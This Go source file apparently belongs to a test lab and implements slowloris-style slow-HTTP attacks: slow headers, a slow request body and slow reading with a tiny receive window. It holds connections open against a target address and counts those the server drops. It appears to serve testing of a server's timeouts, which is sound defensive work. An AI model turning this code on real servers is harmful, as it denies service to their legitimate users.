package lab

import (
	"context"
	"io"
	"net"
	"sync/atomic"
	"syscall"
	"time"
)

// Slowly is one way to hold a connection over HTTP/1.1: what is sent first, and what is sent or read once a second from then on.
type Slowly struct {
	Name        string
	first, more string
	reads       bool
}

// SlowWays are the ways there are, of an application that is tests/childapp.
func SlowWays() []Slowly {
	return []Slowly{
		{Name: "head", first: "GET / HTTP/1.1\r\nHost: x\r\n", more: "A: b\r\n"},
		{Name: "body", first: "POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n", more: "x"},
		{Name: "read", first: "GET /bytes?n=1000000 HTTP/1.1\r\nHost: x\r\n\r\n", reads: true},
	}
}

// Attack holds one connection after the other until ctx ends, and counts those that it lost.
func (w Slowly) Attack(ctx context.Context, address string, from *net.TCPAddr, cut *atomic.Int64) {
	d := net.Dialer{LocalAddr: from, Timeout: 5 * time.Second}
	if w.reads { // with a window so small that nothing is taken unless it is read
		d.Control = func(_, _ string, raw syscall.RawConn) error {
			return raw.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
		}
	}
	for ctx.Err() == nil {
		c, err := d.DialContext(ctx, "tcp", address)
		if err != nil {
			Wait(ctx, 100*time.Millisecond)
			continue
		}
		if w.hold(ctx, c) {
			cut.Add(1)
		}
		c.Close()
	}
}

// hold reports whether the other side has ended it.
func (w Slowly) hold(ctx context.Context, c net.Conn) (lost bool) {
	if _, err := io.WriteString(c, w.first); err != nil {
		return true
	}
	one := make([]byte, 1)
	for Wait(ctx, time.Second) {
		_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
		n, err := c.Read(one)
		if timeout, ok := err.(net.Error); err != nil && (!ok || !timeout.Timeout()) || n > 0 && !w.reads {
			return true // it was closed, or answered before it was whole
		}
		if _, err := io.WriteString(c, w.more); err != nil {
			return true
		}
	}
	return false
}

// Wait waits for d, and reports false when ctx ends before.
func Wait(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}
